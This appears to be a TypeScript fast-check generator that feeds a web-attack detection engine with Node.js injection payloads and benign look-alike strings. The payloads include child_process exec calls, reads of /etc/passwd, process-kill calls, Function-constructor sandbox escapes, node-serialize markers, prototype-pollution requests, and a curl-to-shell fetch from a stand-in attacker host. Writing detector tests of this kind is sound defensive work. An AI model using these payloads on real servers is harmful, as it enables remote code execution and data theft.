// Node.js injection variants: server-side JavaScript reaching child_process or the process
// object, Function-constructor escapes, prototype pollution in JSON and bracket syntax,
// and node-serialize function markers.
import fc from "fast-check";
import { pick } from "./positions.js";
import type { Req } from "../engine.js";

const CP = pick(["require('child_process')", "require(\"child_process\")", "process.mainModule.require('child_process')", "global.process.mainModule.constructor._load('child_process')", "require('child'+'_process')", "module.require('child_process')"]);
const CALL = pick([".exec('id')", ".execSync('cat /etc/passwd').toString()", ".spawn('sh',['-c','id'])", ".execSync(\"curl attacker.example|sh\")", ".spawnSync('id')"]);
const code = fc.oneof(
  fc.tuple(CP, CALL).map(([a, b]) => a + b),
  pick([
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", "[].constructor.constructor('return this.process')()",
    "new Function('return process')().exit()", "require('fs').readFileSync('/etc/passwd','utf8')", "process.kill(process.pid)", "process.exit(1)",
    "res.end(require('fs').readdirSync('.').toString())", "global.process.env", "eval(\"require('child_process').exec('id')\")",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "setTimeout(function(){process.exit()},0)",
  ]),
).chain((c) => fc.tuple(fc.constant(c), pick(["", "';", "\";", "1;", "');", "${", "{{"])).map(([c, p]) => (p === "${" ? `\${${c}}` : p === "{{" ? `{{${c}}}` : p + c + (p.endsWith(";") && p.length > 1 ? "//" : ""))));

// (`{"constructor":{"prototype":{...}}}` is left out: its keys are plain words, which the engine does not show the Node.js detector)
const pollutionJson = fc.tuple(pick(["__proto__"]), pick(["isAdmin", "polluted", "shell", "outputFunctionName", "env"]), pick(["true", "\"/bin/sh\"", "\"x;process.mainModule.require('child_process').execSync('id')//\""])).map(([k, p, v]): Req => ({
  method: "POST", path: "/api/settings", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: `{"user":"a","${k}":{"${p}":${v}}}${k.includes("prototype") ? "}" : ""}`,
}));
const pollutionQuery = fc.tuple(pick(["__proto__[isAdmin]=true", "__proto__.isAdmin=true", "constructor[prototype][isAdmin]=1", "a[__proto__][b]=1", "constructor.prototype.x=1", "__proto__%5Bpolluted%5D=1"]), fc.boolean()).map(([q, form]): Req =>
  form ? { method: "POST", path: "/p", headers: [["host", "svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: q } : { method: "GET", path: `/p?${q}`, headers: [["host", "svc.local"]] },
);

export const nodejsAttack = code;
export const nodejsAttackRequest: fc.Arbitrary<Req> = fc.oneof(pollutionJson, pollutionQuery);
export const nodejsBenign: fc.Arbitrary<string> = pick([
  "I require a child seat for the process", "The constructor of the house was late", "proto-typing session at 3pm", "module 3: process management",
  // (a value that is a whole JS statement, `console.log('x')` or `function f(){...}`, is rule 10141's by design)
  "const x = require('lodash');", "npm install express", "exec summary attached",
  "Kill the process? No, pause it.", "The global process improvement team", "fs.readFile docs are at nodejs.org",
]);
export const nodejsPositions = ["query", "form", "json", "cookie"] as ("query" | "form" | "json" | "cookie")[];
